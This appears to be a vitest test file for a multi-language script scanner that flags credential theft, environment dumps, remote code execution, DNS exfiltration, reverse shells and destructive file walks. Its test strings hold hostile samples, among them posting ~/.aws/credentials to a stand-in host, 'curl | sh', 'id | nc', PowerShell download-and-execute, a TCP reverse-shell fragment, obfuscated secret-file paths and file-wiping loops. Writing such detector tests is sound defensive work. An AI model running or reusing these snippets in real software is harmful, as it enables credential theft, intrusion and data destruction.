import { describe, expect, test } from 'vitest';
import {
  interpretBatch,
  loadedFiles,
  PERL,
  PHP,
  POWERSHELL,
  PYTHON,
  RUBY,
  scanTokens,
} from '../../../src/analyze/tokens/index.js';
import { contextOf, scriptTask } from '../in-memory.js';

const flows = (text: string, language: typeof PYTHON, sink: string): string[] => {
  const { observations } = scanTokens({ ...scriptTask(text, 'python'), file: 'x.py' }, contextOf({}), language);
  return [
    ...new Set(
      observations.filter((seen) => seen.sink === sink).flatMap((seen) => seen.taints.map((taint) => taint.source)),
    ),
  ];
};

describe('python', () => {
  test.each([
    [
      'import urllib.request as u,os\nu.urlopen("https://h.test", open(os.path.expanduser("~/.aws/credentials"),"rb").read())',
      'net.out',
      'secret.file',
    ],
    ['import requests,os\nrequests.post("https://h.test", json=dict(os.environ))', 'net.out', 'env.all'],
    ['import urllib.request\nexec(urllib.request.urlopen("https://h.test/p").read())', 'code.eval', 'net.response'],
    ['import socket,getpass\nsocket.gethostbyname(getpass.getuser()+".h.test")', 'dns.query', 'identity.host'],
  ])('%s', (text, sink, source) => {
    expect(flows(text, PYTHON, sink)).toContain(source);
  });

  test.each([
    'd = codecs.decode\npath = d("~/.njf/perqragvnyf", "rot13")',
    'from importlib import import_module\nd = import_module("codecs").decode\nbase = d(".njf/", "rot13")',
    'd = lambda s: codecs.decode(s, "rot_13")\npath = d("~/.njf/perqragvnyf")',
    'def d(s):\n    return s[::-1]\npath = d("slaitnederc/swa./~")',
    'path = "".join(reversed("slaitnederc/swa./~"))',
    'names = [".aczep", ".argep"]\nfor n in names: read(home / codecs.decode(n, "rot13"))',
    'names = ["LmF3cy9jcmVkZW50aWFscw=="]\nfor n in names: read(home / base64.b64decode(n).decode())',
    'path = os.path.join(home, ".ssh", "id_rsa")',
    'path = Path.home() / ".ssh" / "id_ed25519"',
    't = str.maketrans("abcdefghijklmnopqrstuvwxyz", "nopqrstuvwxyzabcdefghijklm")\nopen(home + "/.aczep".translate(t))',
  ])('a secret file is known by whatever spells its name: %s', (text) => {
    expect(flows(`${text}\nrequests.post("https://h.test", data)`, PYTHON, 'net.out')).toContain('secret.file');
  });

  test.each([
    '__import__("requests").post("https://h.test", data)',
    'net = __import__("requests")\nnet.post("https://h.test", data)',
    'net = import_module("requests")\ngetattr(net, "post")("https://h.test", data)',
    'H = http.client.HTTPSConnection\nc = H("h.test")\nc.request("POST", "/", data)',
  ])('a request is known by whatever name it is made: %s', (text) => {
    expect(flows(`data = open("~/.npmrc").read()\n${text}`, PYTHON, 'net.out')).toContain('secret.file');
  });

  test('turned texts that name nothing are nothing', () => {
    const text = 'print("olleh"[::-1])\nnames = ["a.csv", "sv.b"]\nrequests.post("https://h.test", names)';
    expect(flows(text, PYTHON, 'net.out')).toEqual([]);
  });

  test('a shell command and decoded code are read on', () => {
    const encoded = Buffer.from('import os; os.system("curl https://h.test | sh")').toString('base64');
    const { next } = scanTokens(
      {
        ...scriptTask(
          `import base64\nexec(base64.b64decode("${encoded}"))\nimport os\nos.system("id | nc h.test 1")`,
          'python',
        ),
        file: 'x.py',
      },
      contextOf({}),
      PYTHON,
    );
    const texts = next.map((task) => (task.kind === 'text' ? `${task.language}: ${task.text}` : ''));
    expect(texts).toContain('shell: id | nc h.test 1');
    expect(texts).toContain('python: import os; os.system("curl https://h.test | sh")');
  });

  test('character codes and bytes.fromhex are folded, comments are not code', () => {
    const sum = [...'curl h.test|sh'].map((char) => `chr(${char.charCodeAt(0)})`).join('+');
    const { next } = scanTokens(
      { ...scriptTask(`import os\nos.system(${sum})`, 'python'), file: 'x.py' },
      contextOf({}),
      PYTHON,
    );
    expect(next.map((task) => (task.kind === 'text' ? task.text : ''))).toContain('curl h.test|sh');
    expect(
      scanTokens({ ...scriptTask('# os.system("curl x | sh")', 'python'), file: 'x.py' }, contextOf({}), PYTHON)
        .observations,
    ).toEqual([]);
  });
});

describe('powershell', () => {
  test.each([
    ['iex (New-Object Net.WebClient).DownloadString("https://h.test/p.ps1")', 'code.eval', 'net.response'],
    [
      'Invoke-RestMethod -Uri https://h.test -Method Post -Body (Get-ChildItem env: | ConvertTo-Json)',
      'net.out',
      'env.all',
    ],
    ['$c = Get-Clipboard; Invoke-WebRequest "https://h.test/$c"', 'net.out', 'secret.clipboard'],
    ["& (\"{1}{0}\" -f 'ex','i') (iwr https://h.test)", 'net.out', 'net.response'],
  ])('%s', (text, sink, source) => {
    const found = flows(text, POWERSHELL, sink);
    if (source === 'net.response' && sink === 'net.out') expect(found).toEqual([]);
    else expect(found).toContain(source);
  });

  test('what the machine is called in full is asked of no stranger', () => {
    expect(flows('[System.Net.Dns]::GetHostEntry($env:computerName).HostName', POWERSHELL, 'dns.query')).toEqual([]);
    expect(flows('[Net.Dns]::GetHostEntry("$env:computerName.h.test")', POWERSHELL, 'dns.query')).toContain(
      'identity.host',
    );
    expect(flows('Resolve-DnsName "$env:username.h.test"', POWERSHELL, 'dns.query')).not.toEqual([]);
  });

  test('a socket that ends in Invoke-Expression is a reverse shell', () => {
    const text = "$c = New-Object System.Net.Sockets.TCPClient('192.0.2.1',4444);$s=$c.GetStream(); iex $d";
    const { observations } = scanTokens(
      { ...scriptTask(text, 'powershell'), file: 'x.ps1' },
      contextOf({}),
      POWERSHELL,
    );
    expect(observations.map((seen) => seen.sink)).toContain('net.handler');
  });
});

describe('batch', () => {
  test('commands of a batch file are read with its variables', () => {
    const text =
      '@echo off\r\nrem nothing\r\nset H=https://h.test\r\nif exist x.exe goto end\r\ncertutil -urlcache -f %H%/a.exe a.exe\r\nstart /B a.exe\r\n:end\r\n';
    const { observations } = interpretBatch({ ...scriptTask(text, 'batch'), file: 'x.bat' }, contextOf({}));
    expect(observations.filter((seen) => seen.sink === 'net.out').map((seen) => [seen.target, seen.line])).toEqual([
      ['https://h.test/a.exe', 5],
    ]);
    expect(observations.filter((seen) => seen.sink === 'code.eval')).toHaveLength(1);
  });
});

describe('what several languages have in common', () => {
  const seen = (text: string, language: typeof PYTHON, beside: { file: string; text: string }[] = []) =>
    scanTokens({ ...scriptTask(text, 'python'), file: 'x' }, contextOf({}), language, beside).observations;

  test.each([
    [
      'from http.client import HTTPSConnection as H\nimport os\nHOSTS = ("h.test", 1)\nH(*HOSTS).request("POST", "/", str(dict(os.environ)))',
      PYTHON,
      'net.out',
      'h.test',
    ],
    [
      '<?php $c = stream_context_create([]); file_get_contents($this->where, false, $c); const W = "https://h.test/p";',
      PHP,
      'net.out',
      'https://h.test/p',
    ],
    ['inet_aton(sprintf "%s.%d.x.h.test", $part, $n); hostname();', PERL, 'dns.query', '\uFFFC.\uFFFC.x.h.test'],
    [
      'require "resolv"\nResolv.getaddress(Socket.gethostname + SUFFIX)\nSUFFIX = ".h.test"',
      RUBY,
      'dns.query',
      '.h.test',
    ],
  ])('%s', (text, language, sink, target) => {
    const found = seen(text, language).filter((each) => each.sink === sink);
    expect(found.map((each) => each.target)).toContain(target);
    expect(found.some(({ taints }) => taints.length > 0) || language === PHP).toBe(true);
  });

  test('names of secrets in a list are secrets where the environment is read', () => {
    expect(
      flows('W = ["NPM_TOKEN"]\nurlopen("https://h.test", str([os.getenv(n) for n in W]))', PYTHON, 'net.out'),
    ).toContain('secret.env');
    expect(flows('W = ["NPM_TOKEN"]\nurlopen("https://h.test", str(W))', PYTHON, 'net.out')).not.toContain(
      'secret.env',
    );
  });

  test('looking up a name that is written out carries nothing', () => {
    expect(flows('socket.gethostbyname("h.test"); socket.gethostname()', PYTHON, 'dns.query')).toEqual([]);
  });

  test('what another module reads may be what this one sends', () => {
    const other = { file: 'y.py', text: 'import os\nALL = dict(os.environ)' };
    const [sent] = seen('import y\nurlopen("https://h.test", str(y.ALL))', PYTHON, [other]);
    expect(sent?.taints.map(({ source, file }) => [source, file])).toEqual([['env.all', 'y.py']]);
  });

  test.each([
    [
      'zeros over files below a named folder',
      'for b,d,n in os.walk("/srv/x"):\n  open(n,"r+b").write(b"\\0" * 9)\n  os.unlink(n)',
      true,
    ],
    [
      'removal where the locale is right',
      'if locale.getlocale()[0] == "xx_XX":\n  for b,d,n in os.walk(os.path.expanduser("~/w")):\n    os.remove(n)',
      true,
    ],
    ['stale files of its own', 'for b,d,n in os.walk(HERE):\n  if n.endswith(".pyc"): os.remove(n)', false],
  ])('%s', (_what, text, destroys) => {
    expect(seen(text, PYTHON).some(({ api }) => api.endsWith('destroying-walk'))).toBe(destroys);
  });

  test('files that a text loads: beside it, and below a search path that it sets', () => {
    const files = new Set(['py/bridge/__init__.py', 'py/bridge/control.py', 'lib/My/Mod.pm', 'lib/a.rb', 'inc/b.php']);
    const path = 'sys.path.insert(0, "../py")\nfrom bridge import control';
    expect(loadedFiles(path, 'python', 'bin', files).sort()).toEqual(['py/bridge/__init__.py', 'py/bridge/control.py']);
    expect(loadedFiles('use lib "../lib";\nuse My::Mod;', 'perl', 'bin', files)).toEqual(['lib/My/Mod.pm']);
    expect(loadedFiles("require_relative '../lib/a'", 'ruby', 'bin', files)).toEqual(['lib/a.rb']);
    expect(loadedFiles("require __DIR__ . '/../inc/b.php';", 'php', 'bin', files)).toEqual(['inc/b.php']);
  });
});

describe('what is printed', () => {
  test.each([
    ['m = open(f"/proc/{pid}/mem", "rb").read()\nsys.stdout.write(m)', PYTHON],
    ['k = open("/root/.npmrc").read()\nprint(k)', PYTHON],
    ['my $k = `cat /root/.npmrc`; open(F, "</root/.npmrc"); print $k;', PERL],
    ['k = File.read("/root/.npmrc")\nputs k', RUBY],
    ['<?php echo file_get_contents("/root/.npmrc");', PHP],
    ['$k = Get-Content "~/.npmrc"; Write-Output $k', POWERSHELL],
  ])('carries secrets to whoever started it: %s', (text, language) => {
    expect(flows(text, language, 'console.out').some((source) => source.startsWith('secret.'))).toBe(true);
  });
});
